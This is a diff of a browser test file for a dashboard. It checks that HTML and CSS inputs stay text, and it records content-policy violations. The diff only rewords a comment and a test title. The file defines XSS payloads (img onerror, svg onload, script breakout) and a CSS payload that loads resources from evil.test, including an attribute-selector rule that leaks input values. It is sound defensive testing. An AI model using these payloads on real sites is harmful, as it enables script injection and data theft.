@@ -10,7 +10,7 @@ test.use({ apart: 'dashboard-hostile', start: NOWHERE })
 const IMG = '"><img src=x onerror=alert(1)>'
 const SVG = '<svg onload=alert(1)>'
 
-/** Every refusal of the content policy from here on, as the page itself hears of it. */
+/** Every violation of the content policy from here on, as the page reports it. */
 const watchPolicy = async (page: Page): Promise<string[]> => {
   const violations: string[] = []
   await page.exposeFunction('violated', (what: string) => void violations.push(what))
@@ -48,7 +48,7 @@ const TEXTS: readonly string[] = [
 ]
 const CSS = `</style><script>alert(1)</script> @import 'http://evil.test/a.css'; .db-board { width: expression(alert(1)); background: url(http://evil.test/c.png) } input[value^="a"] { background: url(//evil.test/leak) } @font-face { font-family: x; src: url(http://evil.test/f.woff) }`
 
-test('texts, styles, names and values that are HTML stay text, in every place and under the pointer [S120] [S121] [S122] [S123] [S124] [S125] [S126] [S127] [S128] [S129] [S132] [S133]', async ({
+test('texts, styles, names and values that are HTML stay text in every place [S120] [S121] [S122] [S123] [S124] [S125] [S126] [S127] [S128] [S129] [S132] [S133]', async ({
   page,
   server,
   problems,
